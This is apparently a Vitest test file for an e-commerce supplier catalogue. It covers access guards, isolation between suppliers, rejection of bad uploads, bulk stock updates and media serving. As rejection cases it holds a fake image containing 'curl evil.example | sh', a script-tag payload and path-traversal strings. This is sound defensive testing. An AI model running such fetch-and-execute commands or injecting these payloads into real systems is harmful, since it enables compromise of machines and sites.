// The supplier catalogue pages as signed-in staff: a product made through the forms reaches the
// store; supplier A reaches none of supplier B's products, variants or images through URLs or
// tampered form posts (and nothing of B changes); bad uploads are refused with a clear message;
// bulk stock is all or nothing; uploaded images are served publicly, documents never.
import { and, asc, eq, inArray } from "drizzle-orm";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { db, schema as s } from "~/lib/db.server";
import { translate, type MessageKey } from "~/lib/i18n";
import { storeDocument } from "~/lib/uploads.server";
import { getProductBySlug } from "~/models/catalog/catalog.server";
import { seedDatabase } from "../../db/seed";
import { call, CookieJar, formRequest, getRequest } from "../../tests/support/requests";
import { loader as mediaLoader } from "./media.$";
import { action as productAction, loader as productLoader } from "./supplier.products.$id";
import { loader as listLoader } from "./supplier.products._index";
import { action as newAction, loader as newLoader } from "./supplier.products.new";
import { action as stockAction, loader as stockLoader } from "./supplier.products.stock";
import { loader as stockCsvLoader } from "./supplier.products.stock[.]csv";
import { signIn } from "../../tests/support/factories";

function multipartRequest(path: string, fields: Record<string, string | File>, jar: CookieJar): Request {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  return new Request(`http://localhost${path}`, {
    method: "POST",
    headers: { Cookie: jar.header() },
    body: form,
  });
}

async function pngFile(name = "photo.png"): Promise<File> {
  const bytes = await sharp({ create: { width: 80, height: 60, channels: 3, background: "#2a6" } })
    .png()
    .toBuffer();
  return new File([new Uint8Array(bytes)], name, { type: "image/png" });
}

const message = (code: string) => translate("zh", `supplierCatalog.error.${code}` as MessageKey);

let staffA: CookieJar, customer: CookieJar;
let supplierA: string, supplierB: string;
let ownProduct: { id: string; variantId: string };
let productB: string, variantB: string, imageB: string;
let villageA: number, category: number;

async function snapshotB() {
  const products = await db
    .select()
    .from(s.products)
    .where(eq(s.products.supplierId, supplierB))
    .orderBy(asc(s.products.id));
  const ids = products.map((p) => p.id);
  const variants = await db
    .select()
    .from(s.productVariants)
    .where(inArray(s.productVariants.productId, ids))
    .orderBy(asc(s.productVariants.id));
  const images = await db
    .select()
    .from(s.productImages)
    .where(inArray(s.productImages.productId, ids))
    .orderBy(asc(s.productImages.id));
  return JSON.stringify({ products, variants, images });
}

beforeAll(async () => {
  await seedDatabase(db, { piiKey: process.env.PII_KEY!, households: 20 });
  [staffA, customer] = await Promise.all(["13800000004", "13800000001"].map(signIn));
  const [a] = await db.select().from(s.users).where(eq(s.users.mobile, "13800000004"));
  const [b] = await db.select().from(s.users).where(eq(s.users.mobile, "13800000005"));
  supplierA = a.supplierId!;
  supplierB = b.supplierId!;
  // A product of A with a certification in force (the seed's are valid 2026-03-01 – 2027-02-28).
  const [p] = await db
    .select({ id: s.products.id })
    .from(s.products)
    .innerJoin(s.certifications, eq(s.certifications.productId, s.products.id))
    .where(and(eq(s.products.supplierId, supplierA), eq(s.certifications.status, "certified")))
    .limit(1);
  const [v] = await db
    .select({ id: s.productVariants.id })
    .from(s.productVariants)
    .where(eq(s.productVariants.productId, p.id))
    .limit(1);
  ownProduct = { id: p.id, variantId: v.id };
  productB = (
    await db
      .select({ id: s.products.id })
      .from(s.products)
      .where(eq(s.products.supplierId, supplierB))
      .limit(1)
  )[0].id;
  variantB = (
    await db
      .select({ id: s.productVariants.id })
      .from(s.productVariants)
      .where(eq(s.productVariants.productId, productB))
      .limit(1)
  )[0].id;
  imageB = (
    await db
      .select({ id: s.productImages.id })
      .from(s.productImages)
      .where(eq(s.productImages.productId, productB))
      .limit(1)
  )[0].id;
  const [supplierRow] = await db.select().from(s.suppliers).where(eq(s.suppliers.id, supplierA));
  villageA = (
    await db
      .select({ id: s.regions.id })
      .from(s.regions)
      .where(eq(s.regions.parentId, supplierRow.townId))
      .limit(1)
  )[0].id;
  category = (
    await db.select({ id: s.categories.id }).from(s.categories).where(eq(s.categories.slug, "fruit-apple"))
  )[0].id;
});

describe("guards", () => {
  it("a customer gets 403 on every page", async () => {
    for (const run of [
      () => listLoader({ request: getRequest("/supplier/products", customer), params: {}, context: {} }),
      () => newLoader({ request: getRequest("/supplier/products/new", customer), params: {}, context: {} }),
      () =>
        stockLoader({ request: getRequest("/supplier/products/stock", customer), params: {}, context: {} }),
      () =>
        productLoader({
          request: getRequest(`/supplier/products/${ownProduct.id}`, customer),
          params: { id: ownProduct.id },
          context: {},
        }),
    ]) {
      expect((await call(run)).status).toBe(403);
    }
  });
});

describe("add a product with an image and two variants, publish, and the store shows it", () => {
  it("works through the forms (prices typed in yuan, converted exactly)", async () => {
    const created = await call(async () =>
      newAction({
        request: multipartRequest(
          "/supplier/products/new",
          {
            name: "阳店酥梨",
            subtitle: "皮薄肉细",
            categoryId: String(category),
            originVillageId: String(villageA),
            benefitRate: "7.25",
            seasonMonths: "9",
            "variants.0.spec": "3 kg 家庭装",
            "variants.0.price": "39.9",
            "variants.0.stock": "50",
            "variants.1.spec": "5 kg 礼盒",
            "variants.1.price": "0.07",
            "variants.1.stock": "8",
            image: await pngFile(),
          },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(created.status).toBe(303);
    const id = created.headers.get("Location")!.split("/").pop()!;
    const page = await call(async () =>
      productLoader({ request: getRequest(`/supplier/products/${id}`, staffA), params: { id }, context: {} }),
    );
    const { product } = await page.json();
    expect(product).toMatchObject({ status: "draft", benefitRateBp: 725, seasonMonths: [9] });
    expect(product.variants.map((v: { priceFen: number; stock: number }) => [v.priceFen, v.stock])).toEqual([
      [3990, 50],
      [7, 8],
    ]);
    const imagePath: string = product.images[0].path;
    expect(imagePath).toMatch(/^\/media\/products\//);

    const published = await call(async () =>
      productAction({
        request: formRequest(`/supplier/products/${id}`, { intent: "publish" }, staffA),
        params: { id },
        context: {},
      }),
    );
    expect(published.status).toBe(303);
    const store = await getProductBySlug(product.slug);
    expect(store?.variants.map((v) => v.spec)).toEqual(["3 kg 家庭装", "5 kg 礼盒"]);
    expect(store?.images[0].path).toBe(imagePath);

    // The image is served publicly with a long cache and its real type.
    const media = await call(async () =>
      mediaLoader({
        request: getRequest(imagePath),
        params: { "*": imagePath.replace(/^\/media\//, "") },
        context: {},
      }),
    );
    expect(media.status).toBe(200);
    expect(media.headers.get("Content-Type")).toBe("image/webp");
    expect(media.headers.get("Cache-Control")).toContain("immutable");
    expect((await sharp(Buffer.from(await media.arrayBuffer())).metadata()).format).toBe("webp");
  });

  it("shows field errors next to the fields and writes nothing", async () => {
    const before = (await db.select({ id: s.products.id }).from(s.products)).length;
    const response = await call(async () =>
      newAction({
        request: multipartRequest(
          "/supplier/products/new",
          {
            name: "",
            categoryId: String(category),
            originVillageId: String(villageA),
            "variants.0.spec": "1 kg",
            "variants.0.price": "12.345",
            "variants.0.stock": "-3",
          },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body.fieldErrors).toMatchObject({
      name: ["required"],
      "variants.0.price": ["invalid_price"],
      "variants.0.stock": ["invalid_stock"],
    });
    expect((await db.select({ id: s.products.id }).from(s.products)).length).toBe(before);
  });
});

describe("bad uploads are refused with a clear message", () => {
  const upload = (file: File, id = ownProduct.id) =>
    call(async () =>
      productAction({
        request: multipartRequest(`/supplier/products/${id}`, { image: file }, staffA),
        params: { id },
        context: {},
      }),
    );
  const imageCount = async () =>
    (
      await db
        .select({ id: s.productImages.id })
        .from(s.productImages)
        .where(eq(s.productImages.productId, ownProduct.id))
    ).length;

  it("a script renamed .jpg", async () => {
    const before = await imageCount();
    const response = await upload(
      new File(["#!/bin/sh\ncurl evil.example | sh\n"], "photo.jpg", { type: "image/jpeg" }),
    );
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body.fieldErrors.image).toEqual(["image_not_image"]);
    expect(message("image_not_image")).toContain("不是可用的图片");
    expect(await imageCount()).toBe(before);
  });

  it("a 50 MB file", async () => {
    const before = await imageCount();
    const response = await upload(
      new File([new Uint8Array(50 * 1024 * 1024)], "huge.jpg", { type: "image/jpeg" }),
    );
    expect(response.status).toBe(413);
    expect((await response.json()).fieldErrors.image).toEqual(["image_too_large"]);
    expect(message("image_too_large")).toContain("8 MB");
    expect(await imageCount()).toBe(before);
  });

  it("a zero-byte file", async () => {
    const before = await imageCount();
    const response = await upload(new File([], "empty.jpg", { type: "image/jpeg" }));
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors.image).toEqual(["image_empty"]);
    expect(message("image_empty")).toContain("0 字节");
    expect(await imageCount()).toBe(before);
  });

  it("the same checks on the new-product form", async () => {
    const response = await call(async () =>
      newAction({
        request: multipartRequest(
          "/supplier/products/new",
          {
            name: "脚本测试",
            categoryId: String(category),
            originVillageId: String(villageA),
            "variants.0.spec": "1 kg",
            "variants.0.price": "10",
            "variants.0.stock": "1",
            image: new File(["<script>alert(1)</script>"], "x.jpg", { type: "image/jpeg" }),
          },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors.image).toEqual(["image_not_image"]);
    expect(await db.select().from(s.products).where(eq(s.products.name, "脚本测试"))).toEqual([]);
  });

  it("a good image lands", async () => {
    const before = await imageCount();
    expect((await upload(await pngFile())).status).toBe(303);
    expect(await imageCount()).toBe(before + 1);
  });
});

describe("supplier B's products, variants and images are out of reach", () => {
  it("direct URLs and form posts carrying B's ids answer 404 and change nothing", async () => {
    const before = await snapshotB();
    const list = await (
      await call(async () =>
        listLoader({ request: getRequest("/supplier/products", staffA), params: {}, context: {} }),
      )
    ).json();
    expect(list.products.map((p: { id: string }) => p.id)).not.toContain(productB);
    expect(list.products.length).toBeGreaterThan(0);

    const get = await call(async () =>
      productLoader({
        request: getRequest(`/supplier/products/${productB}`, staffA),
        params: { id: productB },
        context: {},
      }),
    );
    expect(get.status).toBe(404);
    const variantFields = { spec: "篡改", price: "0.01", stock: "0" };
    const posts: [string, Record<string, string>][] = [
      [
        productB,
        { intent: "update", name: "篡改", categoryId: String(category), originVillageId: String(villageA) },
      ],
      [productB, { intent: "variant", variantId: variantB, ...variantFields }],
      [ownProduct.id, { intent: "variant", variantId: variantB, ...variantFields }],
      [productB, { intent: "addVariant", ...variantFields }],
      [productB, { intent: "publish" }],
      [productB, { intent: "withdraw" }],
      [productB, { intent: "removeImage", imageId: imageB }],
      [ownProduct.id, { intent: "removeImage", imageId: imageB }],
      [ownProduct.id, { intent: "primaryImage", imageId: imageB }],
    ];
    for (const [id, fields] of posts) {
      const response = await call(async () =>
        productAction({
          request: formRequest(`/supplier/products/${id}`, fields, staffA),
          params: { id },
          context: {},
        }),
      );
      expect(
        response.status,
        `${id === productB ? "B's product" : "own product"} ${JSON.stringify(fields)}`,
      ).toBe(404);
    }
    const upload = await call(async () =>
      productAction({
        request: multipartRequest(`/supplier/products/${productB}`, { image: await pngFile() }, staffA),
        params: { id: productB },
        context: {},
      }),
    );
    expect(upload.status).toBe(404);

    const stock = await call(async () =>
      stockAction({
        request: formRequest(
          "/supplier/products/stock",
          { intent: "form", [`stock.${variantB}`]: "0", [`was.${variantB}`]: "1" },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(stock.status).toBe(400);
    expect((await stock.json()).errors).toEqual([{ row: 1, ref: variantB, code: "unknown_variant" }]);
    const stockPage = await (
      await call(async () =>
        stockLoader({ request: getRequest("/supplier/products/stock", staffA), params: {}, context: {} }),
      )
    ).json();
    expect(stockPage.rows.map((r: { variantId: string }) => r.variantId)).not.toContain(variantB);

    expect(await snapshotB()).toBe(before);
  });
});

describe("editing through the page", () => {
  it("a price typed in yuan on a certified product is stored exactly and audited; a bad edit echoes what was typed", async () => {
    const id = ownProduct.id;
    const [variant] = await db
      .select()
      .from(s.productVariants)
      .where(eq(s.productVariants.id, ownProduct.variantId));
    const saved = await call(async () =>
      productAction({
        request: formRequest(
          `/supplier/products/${id}`,
          {
            intent: "variant",
            variantId: variant.id,
            spec: variant.spec,
            price: "50.10",
            stock: "33",
            active: "on",
          },
          staffA,
        ),
        params: { id },
        context: {},
      }),
    );
    expect(saved.status).toBe(303);
    const [after] = await db.select().from(s.productVariants).where(eq(s.productVariants.id, variant.id));
    expect([after.priceFen, after.stock, after.active]).toEqual([5010, 33, true]);
    const entries = await db.select().from(s.auditLog).where(eq(s.auditLog.subjectId, id));
    expect(variant.priceFen).not.toBe(5010);
    const change = entries.find((e) => e.action === "product.certified_change");
    expect(change?.details).toMatchObject({
      productId: id,
      before: { priceFen: variant.priceFen },
      after: { priceFen: 5010 },
    });

    const bad = await call(async () =>
      productAction({
        request: formRequest(
          `/supplier/products/${id}`,
          {
            intent: "update",
            name: "",
            subtitle: "新卖点",
            categoryId: String(category),
            originVillageId: String(villageA),
          },
          staffA,
        ),
        params: { id },
        context: {},
      }),
    );
    expect(bad.status).toBe(400);
    const body = await bad.json();
    expect(body.fieldErrors.name).toEqual(["required"]);
    expect(body.values.subtitle).toBe("新卖点");
  });
});

describe("bulk stock update", () => {
  it("the form writes only changed rows; a bad row changes nothing and is named", async () => {
    const page = await (
      await call(async () =>
        stockLoader({ request: getRequest("/supplier/products/stock", staffA), params: {}, context: {} }),
      )
    ).json();
    const [r1, r2, r3] = page.rows as { variantId: string; sku: string; stock: number }[];
    const fields = (values: [string, string][]) => ({
      intent: "form",
      ...Object.fromEntries(
        page.rows.flatMap((r: { variantId: string; stock: number }) => [
          [`stock.${r.variantId}`, String(r.stock)],
          [`was.${r.variantId}`, String(r.stock)],
        ]),
      ),
      ...Object.fromEntries(values.map(([id, v]) => [`stock.${id}`, v])),
    });
    const bad = await call(async () =>
      stockAction({
        request: formRequest(
          "/supplier/products/stock",
          fields([
            [r1.variantId, "12"],
            [r2.variantId, "-4"],
            [r3.variantId, "2.5"],
          ]),
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors).toEqual([
      { row: 2, ref: r2.variantId, code: "invalid_stock" },
      { row: 3, ref: r3.variantId, code: "invalid_stock" },
    ]);
    const unchanged = await (
      await call(async () =>
        stockLoader({ request: getRequest("/supplier/products/stock", staffA), params: {}, context: {} }),
      )
    ).json();
    expect(unchanged.rows).toEqual(page.rows);

    const good = await call(async () =>
      stockAction({
        request: formRequest(
          "/supplier/products/stock",
          fields([
            [r1.variantId, "12"],
            [r2.variantId, "0"],
          ]),
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(good.status).toBe(303);
    const after = await (
      await call(async () =>
        stockLoader({ request: getRequest("/supplier/products/stock", staffA), params: {}, context: {} }),
      )
    ).json();
    const stockOf = new Map(
      after.rows.map((r: { variantId: string; stock: number }) => [r.variantId, r.stock]),
    );
    expect([stockOf.get(r1.variantId), stockOf.get(r2.variantId), stockOf.get(r3.variantId)]).toEqual([
      12,
      0,
      r3.stock,
    ]);
  });

  it("a CSV upload: valid rows land; a bad row (with its file line) changes nothing", async () => {
    const csvFile = (text: string) => new File([text], "stock.csv", { type: "text/csv" });
    const download = await call(async () =>
      stockCsvLoader({
        request: getRequest("/supplier/products/stock.csv", staffA),
        params: {},
        context: {},
      }),
    );
    expect(download.headers.get("Content-Type")).toContain("text/csv");
    // Exactly one BOM: with two, spreadsheets read the first header as "\uFEFFsku".
    const bytes = new Uint8Array(await download.arrayBuffer());
    expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, "s".charCodeAt(0)]);
    const lines = new TextDecoder().decode(bytes).trim().split(/\r?\n/);
    expect(lines[0]).toBe("sku,stock,product,spec");
    const [sku1, sku2] = lines.slice(1, 3).map((l) => l.split(",")[0]);

    const bad = await call(async () =>
      stockAction({
        request: multipartRequest(
          "/supplier/products/stock",
          { file: csvFile(`sku,stock\n${sku1},5\n${sku2},-1\n`) },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors).toEqual([{ row: 3, ref: sku2, code: "invalid_stock" }]);

    const good = await call(async () =>
      stockAction({
        request: multipartRequest(
          "/supplier/products/stock",
          { file: csvFile(`\uFEFFSKU,库存\r\n${sku1},5\r\n${sku2},6\r\n`) },
          staffA,
        ),
        params: {},
        context: {},
      }),
    );
    expect(good.status).toBe(303);
    const rows = await db
      .select({ sku: s.productVariants.sku, stock: s.productVariants.stock })
      .from(s.productVariants)
      .where(inArray(s.productVariants.sku, [sku1, sku2]));
    expect(Object.fromEntries(rows.map((r) => [r.sku, r.stock]))).toEqual({ [sku1]: 5, [sku2]: 6 });

    const noHeader = await call(async () =>
      stockAction({
        request: multipartRequest("/supplier/products/stock", { file: csvFile(`${sku1},5\n`) }, staffA),
        params: {},
        context: {},
      }),
    );
    expect((await noHeader.json()).formError).toBe("supplierCatalog.error.csv_missing_headers");
  });
});

describe("/media", () => {
  it("serves only product images; documents, traversal and unknown files are 404", async () => {
    const doc = await storeDocument({
      folder: "certifications",
      bytes: new TextEncoder().encode("%PDF-1.4\n%%EOF\n"),
      originalName: "a.pdf",
    });
    expect(doc.ok).toBe(true);
    for (const path of [
      doc.ok ? doc.path : "",
      "products/../certifications/x.pdf",
      "../secrets.json",
      "products/none.webp",
      "",
    ]) {
      const response = await call(async () =>
        mediaLoader({ request: getRequest(`/media/${path}`), params: { "*": path }, context: {} }),
      );
      expect(response.status, path).toBe(404);
    }
  });
});
